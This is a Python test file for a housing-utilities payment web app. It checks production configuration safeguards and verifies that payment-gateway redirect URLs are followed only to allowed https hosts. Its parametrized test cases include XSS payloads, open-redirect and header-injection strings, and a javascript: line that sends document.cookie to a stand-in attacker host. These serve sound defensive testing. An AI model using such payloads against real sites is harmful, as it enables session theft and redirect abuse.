"""A mistaken deployment: production started on the defaults published in this repository.

Issue 10 §3. With ``GKH_ENV=production`` the server and ``gkh check-config`` refuse to run
while any demo secret, the demo logins card, an embedded provider (unless allowed by name) or a
plain-http public URL is in force, and list every problem at once; ``gkh demo`` loads nothing;
the embedded ЕСИА and sandbox are not even mounted; and the browser is sent to a gateway page
only on an allowed https host.
"""

from __future__ import annotations

import os
import subprocess
import sys

import httpx
import pytest

from gkh_web.api import build_api
from gkh_web.services import config_check
from gkh_web.services.payments import gateway_pages
from gkh_web.settings import get_settings
from tests.browser.conftest import BIN, PROJECT_ROOT

SAFE_PRODUCTION = {
    "GKH_ENV": "production",
    "GKH_PUBLIC_URL": "https://gkh.example.ru",
    "GKH_ESIA_URL": "https://esia.gosuslugi.ru",
    "GKH_ESIA_CLIENT_SECRET": "a-real-esia-secret",
    "GKH_GATEWAY_URL": "https://api.yookassa.ru/v3",
    "GKH_GATEWAY_SECRET": "live_a-real-shop-key",
    "GKH_GATEWAY_WEBHOOK_SECRET": "a-real-webhook-key",
    "GKH_GATEWAY_PAGE_HOSTS": "yoomoney.ru",
    "GKH_DEMO_MODE": "0",
    "GKH_RECEIPT_LINK_SECRET": "a-real-receipt-link-key-of-32-characters-or-more",
}
EVERY_DEFAULT = ["GKH_PUBLIC_URL", "GKH_ESIA_CLIENT_SECRET", "GKH_GATEWAY_SECRET", "GKH_GATEWAY_WEBHOOK_SECRET",
                 "GKH_RECEIPT_LINK_SECRET", "GKH_DEMO_MODE", "GKH_ESIA_URL", "GKH_GATEWAY_URL"]


def _settings(monkeypatch, **env: str):
    for name in [*SAFE_PRODUCTION, "GKH_PRODUCTION_ALLOW_DEMO_ESIA", "GKH_PRODUCTION_ALLOW_SANDBOX_GATEWAY"]:
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    get_settings.cache_clear()
    return get_settings()


def _clean_env(**env: str) -> dict[str, str]:
    """The test process's environment without any GKH_ setting, plus ``env``."""
    kept = {name: value for name, value in os.environ.items() if not name.startswith("GKH_")}
    return {**kept, **env}


def test_production_on_the_defaults_lists_every_problem_at_once(monkeypatch):
    problems = config_check.config_problems(_settings(monkeypatch, GKH_ENV="production"))
    assert [next(name for name in EVERY_DEFAULT if name in problem) for problem in problems] == EVERY_DEFAULT


def test_the_same_defaults_are_fine_in_demo_mode(monkeypatch):
    assert config_check.config_problems(_settings(monkeypatch)) == []


def test_a_real_configuration_passes(monkeypatch):
    assert config_check.config_problems(_settings(monkeypatch, **SAFE_PRODUCTION)) == []


@pytest.mark.parametrize("change, named", [
    ({"GKH_ESIA_CLIENT_SECRET": "demo-esia-secret"}, "GKH_ESIA_CLIENT_SECRET"),
    ({"GKH_GATEWAY_SECRET": "sandbox-secret"}, "GKH_GATEWAY_SECRET"),
    ({"GKH_GATEWAY_WEBHOOK_SECRET": "sandbox-webhook-secret"}, "GKH_GATEWAY_WEBHOOK_SECRET"),
    ({"GKH_RECEIPT_LINK_SECRET": "demo-receipt-link-secret"}, "GKH_RECEIPT_LINK_SECRET"),
    ({"GKH_RECEIPT_LINK_SECRET": "short-and-guessable"}, "GKH_RECEIPT_LINK_SECRET"),
    ({"GKH_DEMO_MODE": "1"}, "GKH_DEMO_MODE"),
    ({"GKH_PUBLIC_URL": "http://gkh.example.ru"}, "GKH_PUBLIC_URL"),
    ({"GKH_PUBLIC_URL": "https://gkh.example.ru/kiosk"}, "GKH_PUBLIC_URL"),
    ({"GKH_ESIA_URL": "http://esia.example"}, "GKH_ESIA_URL"),
    ({"GKH_GATEWAY_URL": "http://gateway.example/v3"}, "GKH_GATEWAY_URL"),
    ({"GKH_ESIA_URL": ""}, "GKH_ESIA_URL"),
    ({"GKH_GATEWAY_URL": ""}, "GKH_GATEWAY_URL"),
    ({"GKH_RATE_LIMITS": "lookup_per_tab=lots"}, "GKH_RATE_LIMITS"),
    ({"GKH_ENV": "prod"}, "GKH_ENV"),
])
def test_each_demo_default_alone_is_refused(monkeypatch, change, named):
    problems = config_check.config_problems(_settings(monkeypatch, **{**SAFE_PRODUCTION, **change}))
    assert len(problems) == 1 and named in problems[0]


def test_embedded_providers_only_by_name(monkeypatch):
    allowed = _settings(monkeypatch, **{**SAFE_PRODUCTION, "GKH_ESIA_URL": "", "GKH_GATEWAY_URL": "",
                                        "GKH_PRODUCTION_ALLOW_DEMO_ESIA": "1",
                                        "GKH_PRODUCTION_ALLOW_SANDBOX_GATEWAY": "1"})
    assert config_check.config_problems(allowed) == []


def test_gkh_check_config_refuses_and_lists_in_russian():
    refused = subprocess.run([str(BIN / "gkh"), "check-config"], env=_clean_env(GKH_ENV="production"),
                             cwd=PROJECT_ROOT, capture_output=True, text=True)
    assert refused.returncode == 1
    assert refused.stderr.startswith("Настройки не годятся для GKH_ENV=production — проблем: 8")
    for name in EVERY_DEFAULT:
        assert name in refused.stderr

    fine = subprocess.run([str(BIN / "gkh"), "check-config"], env=_clean_env(**SAFE_PRODUCTION), cwd=PROJECT_ROOT,
                          capture_output=True, text=True)
    assert fine.returncode == 0, fine.stderr
    assert "Настройки годятся для GKH_ENV=production" in fine.stdout


def test_the_server_refuses_to_start_on_demo_defaults():
    """What `reflex run` does first in every worker: import the app module."""
    started = subprocess.run([sys.executable, "-c", "import gkh_web.gkh_web"],
                             env=_clean_env(GKH_ENV="production", GKH_DATABASE_URL="sqlite://"),
                             cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120)
    assert started.returncode != 0
    assert "Настройки не годятся для GKH_ENV=production" in started.stderr
    assert "GKH_DEMO_MODE" in started.stderr


def test_no_demo_data_in_production(tmp_path):
    database = f"sqlite:///{tmp_path / 'gkh.db'}"
    for command in (["demo"], ["demo", "--if-empty"], ["db", "ensure-demo"]):
        refused = subprocess.run([str(BIN / "gkh"), *command], env=_clean_env(**SAFE_PRODUCTION,
                                 GKH_DATABASE_URL=database), cwd=PROJECT_ROOT, capture_output=True, text=True)
        assert refused.returncode == 1 and "демо-данные не загружаются" in refused.stderr, command
    assert not (tmp_path / "gkh.db").exists() or (tmp_path / "gkh.db").stat().st_size == 0


async def _status(app, method: str, path: str) -> int:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="https://gkh.example.ru") as client:
        return (await client.request(method, path)).status_code


async def test_embedded_providers_are_not_even_mounted_in_production(monkeypatch):
    _settings(monkeypatch, **SAFE_PRODUCTION)
    production = build_api()
    assert await _status(production, "POST", "/esia/token") == 404
    assert await _status(production, "GET", "/esia/userinfo") == 404
    assert await _status(production, "POST", "/sandbox-gateway/api/v3/payments") == 404
    assert await _status(production, "GET", "/sandbox-gateway/pay/anything") == 404

    _settings(monkeypatch)  # demo: both are there
    demo = build_api()
    assert await _status(demo, "POST", "/esia/token") == 400
    assert await _status(demo, "POST", "/sandbox-gateway/api/v3/payments") == 401


# --- The gateway's page address: followed only when it is safe ---------------------------------------------


@pytest.mark.parametrize("url, followed", [
    ("https://yoomoney.ru/checkout/payments/v2/contract?orderId=1", True),
    ("https://YOOMONEY.ru/checkout", True),
    ("https://yoomoney.ru.evil.example/checkout", False),
    ("https://evil.example/checkout", False),
    ("http://yoomoney.ru/checkout", False),
    ("javascript:alert(document.cookie)", False),
    ("JaVaScRiPt:alert(1)", False),
    (" javascript:alert(1)", False),
    ("data:text/html,<script>alert(1)</script>", False),
    ("//evil.example/checkout", False),
    ("https://user:pass@yoomoney.ru/checkout", False),
    ("https://yoomoney.ru\\@evil.example/", False),
    ("https://yoomoney.ru/\nLocation: https://evil.example", False),
    ("/sandbox-gateway/pay/token", False),
    ("/cabinet", False),
    ("http://127.0.0.1:3000/sandbox-gateway/pay/token", False),
    ("", False),
])
def test_in_production_the_browser_goes_only_to_allowed_https_pages(monkeypatch, url, followed):
    settings = _settings(monkeypatch, **SAFE_PRODUCTION)
    assert (gateway_pages.browser_address(url, settings) is not None) is followed


@pytest.mark.parametrize("url, expected", [
    ("/sandbox-gateway/pay/token", "http://localhost:3000/sandbox-gateway/pay/token"),
    ("http://127.0.0.1:3000/sandbox-gateway/pay/token", "http://127.0.0.1:3000/sandbox-gateway/pay/token"),
    ("http://localhost:8080/x", "http://localhost:8080/x"),
    ("http://192.168.1.20:3000/sandbox-gateway/pay/token", None),
    ("javascript:alert(1)", None),
    ("/cabinet", None),
    ("//127.0.0.1/sandbox-gateway/pay/x", None),
])
def test_in_demo_the_sandbox_and_loopback_pages_only(monkeypatch, url, expected):
    assert gateway_pages.browser_address(url, _settings(monkeypatch)) == expected


@pytest.mark.parametrize("page_url", ["javascript:fetch('https://evil.example/?'+document.cookie)",
                                      "https://evil.example/pay", "http://pay.gateway.test/pay/1"])
async def test_a_gateway_handing_out_a_foreign_page_gets_no_browser(demo_db, page_url):
    """The payment is stopped before the browser goes anywhere: review, an event, cancelled, documents free."""
    import json

    from sqlmodel import Session, select

    from gkh_web.db.engine import get_engine, session_scope
    from gkh_web.db.models import Payment, PaymentEvent, PaymentItem
    from gkh_web.services import payments
    from tests.db.test_payments import RETURN_URL, T0, new_payment, resident
    from tests.fake_gateway import FakeGateway, http_gateway

    fake = FakeGateway(page_url=page_url)
    with Session(get_engine(demo_db), expire_on_commit=False) as session:
        record = new_payment(session, resident(session, "ivanov"))

    started = await payments.start_payment(record.id, http_gateway(fake), RETURN_URL,
                                           session_factory=lambda: session_scope(demo_db), now=T0)

    assert started.confirmation_url is None and started.message == payments.MSG_PAGE_REFUSED
    assert fake.only_payment()["status"] == "canceled"
    with session_scope(demo_db) as session:
        payment = session.get(Payment, record.id)
        notes = [json.loads(event.detail).get("review", "") for event in session.exec(
            select(PaymentEvent).where(PaymentEvent.payment_id == record.id)).all() if event.detail]
        still_open = session.exec(select(PaymentItem).where(PaymentItem.payment_id == record.id,
                                                            PaymentItem.open == 1)).all()
        [view] = payments.payments_of_resident(session, record.resident_id)
    assert view.continue_url == ""  # «Продолжить оплату» never offers it either
    assert payment.needs_review and payment.status == "canceled" and still_open == []
    assert any(note.startswith("confirmation_url refused: ") for note in notes)
    assert "document.cookie" not in " ".join(notes)  # the log names scheme and host, not the whole address
